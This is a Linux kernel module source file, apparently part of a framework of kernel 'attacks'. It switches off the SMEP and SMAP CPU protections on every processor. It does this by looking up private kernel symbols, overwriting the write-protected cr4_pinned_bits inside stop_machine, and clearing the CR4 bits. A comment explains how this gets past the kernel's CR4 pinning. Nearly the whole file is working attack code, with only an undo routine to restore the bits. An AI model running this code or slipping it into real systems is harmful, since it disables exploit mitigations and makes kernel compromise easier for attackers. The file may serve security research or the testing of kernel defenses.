// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * CR4.SMEP and CR4.SMAP of each CPU are off and stay so.
 *
 * Written to the register alone that lasts for moments: where a processor has no INVPCID, the
 * kernel writes CR4 anew from its copy (cpu_tlbstate.cr4) with each global flush of translations,
 * which loading a module already asks for, and it puts the bits that it pinned (cr4_pinned_bits,
 * arch/x86/kernel/cpu/common.c) into whatever it writes. So the bits are taken out of what is
 * pinned first, and then the kernel's own function clears them in copy and register.
 */
#include "attack.h"

#include <linux/stop_machine.h>

#define BITS (X86_CR4_SMEP | X86_CR4_SMAP)

static void (*update)(unsigned long set, unsigned long clear);
static unsigned long *pinned;
static unsigned long original;

/*
 * On all CPUs while nothing else runs on any: the kernel warns of bits that are not as they are
 * pinned when it writes CR4.
 */
static int set(void *on)
{
	unsigned long pins = on ? original : original & ~BITS;

	write_protected(pinned, &pins, sizeof(pins));
	if (on)
		update(BITS, 0);
	else
		update(0, BITS);
	return 0;
}

static int attack(void)
{
	if (!boot_cpu_has(X86_FEATURE_SMEP) || !boot_cpu_has(X86_FEATURE_SMAP))
		return -ENODEV;
	update = function("cr4_update_irqsoff", *update);
	pinned = (unsigned long *)symbol("cr4_pinned_bits");
	if (!update || !pinned)
		return -ENOENT;
	original = *pinned;
	return stop_machine(set, NULL, cpu_online_mask);
}

static void undo(void)
{
	stop_machine(set, (void *)1, cpu_online_mask);
}

ATTACK("CR4.SMEP and CR4.SMAP off on all CPUs");
